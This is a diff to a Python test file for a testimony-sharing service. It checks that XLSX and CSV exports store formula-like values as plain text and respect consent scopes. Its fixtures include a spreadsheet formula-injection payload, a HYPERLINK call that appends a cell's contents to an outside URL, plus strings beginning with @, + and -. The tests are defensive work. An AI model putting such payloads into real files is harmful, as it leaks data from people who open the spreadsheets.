@@ -1,15 +1,22 @@
 """The hand-over service in process: what the preview promises is what the file holds, the
 preview writes and records nothing, and a person recorded only as an alleged perpetrator still
-has their row (the persons registry need not know them)."""
+has their row (the persons registry need not know them); an xlsx whose cells a spreadsheet
+could run as formulas, and the table by act."""
 
 from __future__ import annotations
 
 import csv
 import io
+import stat
+import tempfile
+import zipfile
 from pathlib import Path
 from typing import Any
 
-from app.services.share import preview, share, shares
+import openpyxl
+import pytest
+
+from app.services.share import BadShare, preview, share, shares
 from app.services.workspace import Workspace
 from app.storage.vault import Vault
 from tests.factories import day, minimal_testimony
@@ -46,3 +53,99 @@ def test_the_preview_matches_the_file_and_leaves_no_trace(vault: Vault, tmp_path
         ("Viktar Ivanou", "", "named"),  # the judge: named for a court
     ]
     assert [entry.scope for entry in shares(vault)] == ["legal_proceedings"]
+
+
+def _act_testimony() -> dict[str, Any]:
+    """Everyone named with consent, so free text leaves; words a spreadsheet would run."""
+    named = [
+        {"value": '=HYPERLINK("https://example.org/?"&B2)', "script": "Latn", "kind": "original"}
+    ]
+    guard = [{"value": "@Ivanou", "script": "Latn", "kind": "original"}]
+    return minimal_testimony(
+        consent={"given_by": "p1", "date": day("2024-10-03"), "method": "oral",
+                 "scopes": ["legal_proceedings"]},
+        persons=[{"ref": "p1", "roles": ["informant", "victim"], "names": named},
+                 {"ref": "p9", "roles": ["alleged_perpetrator"], "names": guard}],
+        ill_treatment_acts=[{"ref": "a1", "victim": "p1", "method": "beating",
+                             "from": day("2023-04-02"),
+                             "place": {"facility": "navapolatsk_ik1"},
+                             "perpetrators": [{"person": "p9", "involvement": "carried_out"}],
+                             "description": "+1 rib broken; -cold cell"}],
+    )  # fmt: skip
+
+
+def _cells(path: Path) -> list[list[Any]]:
+    book = openpyxl.load_workbook(path)
+    return [[cell for cell in row] for row in book.active.iter_rows()]
+
+
+def test_xlsx_cells_are_text_never_formulas(
+    vault: Vault, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    Workspace(vault).add_all([_act_testimony(), _testimony("internal_documentation")])
+    scratch = tmp_path / "tmp"
+    scratch.mkdir()
+    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # where a temp file would go
+
+    out = tmp_path / "court.xlsx"
+    done = share(vault, "legal_proceedings", "xlsx", out, lang="be")
+    assert done.testimonies == 1
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert list(scratch.iterdir()) == []  # no name went through a temp file
+    rows = _cells(out)
+    header = [cell.value for cell in rows[0]]
+    table = [dict(zip(header, (cell.value for cell in row), strict=True)) for row in rows[1:]]
+    victim = next(row for row in table if row["ref"] == "p1")
+    assert victim["name"] == '=HYPERLINK("https://example.org/?"&B2)'
+    assert victim["shown_as"] == "named"
+    assert victim["ill_treatment"] == "beating"
+    assert victim["ill_treatment_label"] not in ("", "beating")  # the Belarusian label
+    assert all(cell.data_type == "s" for row in rows for cell in row if cell.value is not None)
+    with zipfile.ZipFile(out) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+        assert sheets
+        assert all(b"<f>" not in book.read(name) for name in sheets)  # no formula anywhere
+
+
+def test_by_acts_one_row_per_act_under_consent(vault: Vault, tmp_path: Path) -> None:
+    withheld = _act_testimony()
+    withheld["consent"]["scopes"] = ["internal_documentation"]
+    withheld["persons"][0]["names"] = [{"value": "Hanna Baravik", "script": "Latn",
+                                        "kind": "original"}]  # fmt: skip
+    Workspace(vault).add_all([_act_testimony(), withheld])
+
+    out = tmp_path / "acts.csv"
+    done = share(vault, "legal_proceedings", "csv", out, by="acts")
+    assert done.testimonies == 1
+    text = out.read_text(encoding="utf-8")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert len(rows) == 1
+    (act,) = rows
+    assert (act["kind"], act["act"], act["what"], act["from"]) == (
+        "ill_treatment_acts", "a1", "beating", "2023-04-02"
+    )  # fmt: skip
+    assert act["who"].startswith("=HYPERLINK")
+    assert act["facility"] == "navapolatsk_ik1"
+    assert act["facility_label"] not in ("", "navapolatsk_ik1")
+    assert act["perpetrators"] == "@Ivanou (carried_out)"
+    assert act["description"] == "+1 rib broken; -cold cell"
+    assert "Hanna" not in text
+
+    sheet = tmp_path / "acts.xlsx"
+    share(vault, "legal_proceedings", "xlsx", sheet, by="acts")
+    rows = _cells(sheet)
+    assert [cell.value for cell in rows[1]][:3] == [act["testimony"], "a1", "ill_treatment_acts"]
+
+    with pytest.raises(BadShare, match="one row per act"):
+        share(vault, "legal_proceedings", "json", tmp_path / "acts.json", by="acts")
+    assert not (tmp_path / "acts.json").exists()
+    assert len(shares(vault)) == 2  # the refused one recorded nothing
+
+
+def test_the_preview_says_why_people_are_not_named(vault: Vault) -> None:
+    Workspace(vault).add_all([_testimony("share_ngos", "third_party_info")])
+    ahead = preview(vault, "share_ngos")
+    assert ahead.why == {
+        ("case_code", "did not consent for themselves"): 1,
+        ("case_code", "alleged perpetrator"): 1,
+    }
